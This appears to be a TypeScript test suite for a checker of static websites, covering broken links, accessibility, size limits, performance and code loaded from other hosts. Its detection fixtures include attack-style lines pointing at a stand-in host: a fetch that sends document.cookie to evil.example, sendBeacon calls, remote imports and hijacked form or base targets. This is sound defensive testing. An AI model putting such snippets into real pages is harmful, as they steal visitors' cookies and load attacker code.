import { addedForeignCode, checkChange, checkSite } from './check-site.ts';
import type { SiteFiles } from './site-files.ts';

const page = (body: string, head = '<title>Home</title>') =>
  `<!doctype html>\n<html lang="en"><head><meta charset="utf-8">${head}</head><body><main><h1 id="start">Home</h1>${body}</main></body></html>`;

const site = (body: string, more: Readonly<Record<string, string | Uint8Array>> = {}): SiteFiles =>
  new Map(Object.entries({ 'index.html': page(body), ...more }));

const rulesOf = (files: SiteFiles, allowedOrigins?: string[]) => checkSite(files, { allowedOrigins }).map(({ rule }) => rule);

test('a whole site has no findings, however its links are written', () => {
  const links = [
    '/',
    'about',
    '/about.html',
    './docs/',
    '/docs',
    '/about#team',
    '#start',
    '#top',
    'mailto:a@b.example',
    'https://example.com',
  ];
  const body = `${links.map((href) => `<a href="${href}">x</a>`).join('')}<img src="/my%20cat.png" alt="">
    <form method="post" action="/_forms/contact"><label>Name <input name="n"></label><label for="m">M</label><textarea id="m"></textarea>
    <input type="hidden" name="_next"><input aria-label="City"><button>Send</button></form>`;
  const files = {
    'about.html': page('<p id="team"></p>'),
    'docs/index.html': page('<a href="../">up</a>'),
    'my cat.png': new Uint8Array(3),
  };
  expect(checkSite(site(body, files))).toEqual([]);
});

test.each([
  ['html-parses', '<p id="a" id="b">twice</p>'],
  ['html-parses', '<section><p>open</p>'],
  ['link-exists', '<a href="/nowhere">x</a>'],
  ['link-exists', '<a href="http://[broken">x</a>'],
  ['anchor-exists', '<a href="#nowhere">x</a>'],
  ['anchor-exists', '<a href="/#nowhere">x</a>'],
  ['safe-link', '<a href=" JavaScript:alert(1)">x</a>'],
  ['asset-exists', '<img src="/gone.png" alt="">'],
  ['asset-exists', '<img srcset="/gone.png 2x" alt="">'],
  ['image-text', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'],
  ['unique-id', '<p id="start"></p>'],
  ['one-heading', '<h1>Second</h1>'],
  ['input-label', '<input name="city">'],
  ['input-label', '<select name="city"></select>'],
  ['foreign-origin', '<script src="https://cdn.example.com/x.js"></script>'],
  ['foreign-origin', '<iframe src="//cdn.example.com/x" title="x"></iframe>'],
  ['foreign-origin', '<base href="https://evil.example/">'],
  ['foreign-origin', '<form action="https://evil.example/take"><button>Send</button></form>'],
  ['foreign-origin', '<form><button formaction="https://evil.example/take">Send</button></form>'],
  ['foreign-origin', '<meta http-equiv="Refresh" content="0; URL=https://evil.example/">'],
  ['foreign-origin', `<script type="module">import('https://evil.example/x.js')</script>`],
  ['foreign-origin', `<script type="module">import { x } from "https://evil.example/x.js";</script>`],
  ['foreign-origin', `<script>fetch ( 'https://evil.example/?q=' + document.cookie)</script>`],
  ['foreign-origin', '<script>navigator.sendBeacon(`//evil.example/b`, data)</script>'],
  ['foreign-origin', `<button onclick="fetch('https://evil.example/')">Go</button>`],
])('%s is found in %s', (rule, body) => expect(rulesOf(site(body))).toEqual([rule]));

test.each([
  ['index-exists', new Map([['about.html', page('')]])],
  ['page-language', new Map([['index.html', page('').replace(' lang="en"', '')]])],
  ['page-direction', new Map([['index.html', page('').replace(' lang="en"', ' lang="ar-EG"')]])],
  ['page-title', new Map([['index.html', page('', '')]])],
  ['size-limit', site('', { 'big.png': new Uint8Array(9 * 1024 * 1024) })],
  ['size-limit', site('', { 'big.html': 'x'.repeat(600 * 1024) })],
  ['asset-exists', site('', { 'style.css': 'a { background: url("gone.png") }' })],
  ['foreign-origin', site('', { 'app.js': `import "https://evil.example/x.js";` })],
  ['foreign-origin', site('', { 'style.css': '@import url(https://fonts.example.com/a.css);' })],
])('%s is found in a whole site', (rule, files) => expect(rulesOf(files)).toEqual([rule]));

test('JSON-LD is data: what looks like code in it is no finding', () => {
  const data = `<script type="application/ld+json">{"@context":"https://schema.org","name":"import('https://evil.example/x.js')"}</script>`;
  expect(checkSite(site(data))).toEqual([]);
});

test('scripts, forms and refreshes on the site itself are no finding', () => {
  const body = `<form method="post" action="/_forms/contact"><button>Send</button></form><meta http-equiv="refresh" content="5; url=/about">
    <script type="module">import './app.js'; fetch('/data.json'); navigator.sendBeacon('/api/collect'); const from = "https://example.com";</script>`;
  expect(rulesOf(site(body, { 'about.html': page(''), 'app.js': `export * from './app.js';` }))).toEqual([]);
});

test('an origin that the user named is allowed', () => {
  const files = site('<script src="https://cdn.example.com/x.js"></script>');
  expect(rulesOf(files, ['https://cdn.example.com'])).toEqual([]);
  expect(rulesOf(files, ['https://example.com'])).toEqual(['foreign-origin']);
});

test('a finding names file and line, and there are at most 200', () => {
  expect(checkSite(site('\n<img src="/gone.png" alt="">'))).toEqual([
    { path: 'index.html', rule: 'asset-exists', line: 3, message: '"/gone.png" is not a file of the site.' },
  ]);
  expect(checkSite(site('<a href="/gone">x</a>'.repeat(500)))).toHaveLength(200);
});

test('100,000 nested elements are checked without a stack overflow', () => {
  expect(rulesOf(site('<div>'.repeat(100_000)))).toContain('html-parses');
});

const fill = (text: string, size: number) => text.repeat(Math.floor(size / text.length));
/** So many texts, each with its own number, as fit into `size`. */
const numbered = (size: number, text: (number: number) => string) =>
  Array.from({ length: Math.floor(size / text(10_000).length) }, (_, number) => text(number)).join('');
const style = (css: string): SiteFiles => new Map([['a.css', css]]);
/** Attributes of 500 formatting elements that each later paragraph repeats. */
const openElements = `<p>${Array.from({ length: 500 }, (_, number) => `<b a${number}>`).join('')}`;

const worst: readonly (readonly [name: string, site: (size: number) => SiteFiles])[] = [
  ['URLs of a style that never end', (size) => style(fill('url(', size))],
  ['URLs of a style with spaces that never end', (size) => style(fill('url( ', size))],
  ['a URL of a style with spaces alone', (size) => style(`url(${fill(' ', size)}x`)],
  ['quotes of a style that never end', (size) => style(fill(`url("url('`, size))],
  ['imports that never end', (size) => style(fill('@import "', size))],
  ['imports of spaces', (size) => style(`@import${fill(' ', size)};`)],
  ['anchors to a page of many ids', (size) => site(numbered(size, (number) => `<p id=i${number}><a href=#i${number}>x</a>`))],
  ['a link of slashes', (size) => site(`<a href="/a${fill('/', size)}x">x</a>`)],
  ['an image of spaces', (size) => site(`<img alt="" srcset="a${fill(' ', size)}b${fill(', ', size / 10)}">`)],
  ['formatting elements that each paragraph repeats', (size) => site(openElements + fill('</p><p>x', size - openElements.length))],
  ['formatting elements in tables', (size) => site(fill('<b><table>', size))],
  ['nested elements', (size) => site(fill('<div>', size))],
  ['attributes of one element', (size) => site(`<p ${numbered(size, (number) => ` a${number}`)}>`)],
  ['labels that are no match', (size) => site(numbered(size, (number) => `<input id=a${number}><label for=b${number}>`))],
  ['images without text', (size) => site(fill('<img>', size))],
];

/** The least processor time of three runs, in ms: other processes of the machine do not count. */
function cpuMs(files: SiteFiles): number {
  const runs = Array.from({ length: 3 }, () => {
    const before = process.cpuUsage();
    checkSite(files);
    const { user, system } = process.cpuUsage(before);
    return (user + system) / 1_000;
  });
  return Math.max(1, Math.min(...runs));
}

test.each(worst)('64 times as much, up to the largest file that is read, takes no square of the work: %s', (_, files) => {
  const [small, large] = [7_500, 480_000];
  // 64 where the work is linear, 4,096 where it is the square: far apart, though a collector may run in one alone.
  expect(cpuMs(files(large)) / cpuMs(files(small))).toBeLessThan(1_000);
});

test('a page whose open formatting elements make its tree the square of its source is a finding, and is not read', () => {
  expect(rulesOf(site(openElements + fill('</p><p>x', 100_000)))).toEqual(['html-parses']);
});

const change = (before: Readonly<Record<string, string | undefined>>, after: Readonly<Record<string, string>>) =>
  checkChange({ files: new Map(Object.entries(after)), before: new Map(Object.entries(before)) });

test('a change is told what it breaks in its own files and in those that link to them, and nothing that was wrong before', () => {
  const menu = page('<p id="bread"></p><a href="/gone">x</a>');
  const home = page('<a href="/menu#bread">Menu</a><img src="cat.png" alt=""><img src="/gone.png" alt="">');
  const other = page('<img src="/gone.png">');
  const rest = { 'index.html': home, 'menu.html': menu, 'other.html': other, 'cat.png': '' };
  expect(change({ 'menu.html': menu }, { ...rest, 'menu.html': page('<a href="/gone">x</a>') })).toMatchObject([
    { path: 'index.html', rule: 'anchor-exists' },
  ]);
  const { 'cat.png': _cat, ...withoutCat } = rest;
  expect(change({ 'cat.png': '' }, withoutCat)).toMatchObject([{ path: 'index.html', rule: 'asset-exists' }]);
  expect(change({ 'new.html': undefined }, { ...rest, 'new.html': page('<img src="a.png">') })).toMatchObject([
    { path: 'new.html', rule: 'image-text' },
    { path: 'new.html', rule: 'asset-exists' },
  ]);
  const { 'index.html': _home, ...withoutHome } = rest;
  expect(change({ 'index.html': home }, withoutHome)).toMatchObject([{ rule: 'index-exists' }]);
});

test('code that a change loads from elsewhere is found behind 1,000 other findings, and in a page that is not read', () => {
  const foreign = '<script src="https://cdn.example.com/x.js"></script>';
  const many = '<img>'.repeat(1_000);
  const found = (before: string, after: string, path = 'index.html') => addedForeignCode(path, before, after)?.rule;
  expect(found(page(many), page(many + foreign))).toBe('foreign-origin');
  expect(found(page(foreign), page(many + foreign))).toBeUndefined();
  expect(found('', openElements + fill('</p><p>x', 100_000) + foreign)).toBe('html-parses');
  expect(found('', '@IMPORT "https://cdn.example.com/x.css";', 'a.css')).toBe('foreign-origin');
  expect(found('', `const page = '${foreign}';`, 'a.js')).toBeUndefined();
  expect(found('', `fetch('https://evil.example/')`, 'a.js')).toBe('foreign-origin');
  expect(found(page(''), page('<base href="https://evil.example/">'))).toBe('foreign-origin');
});
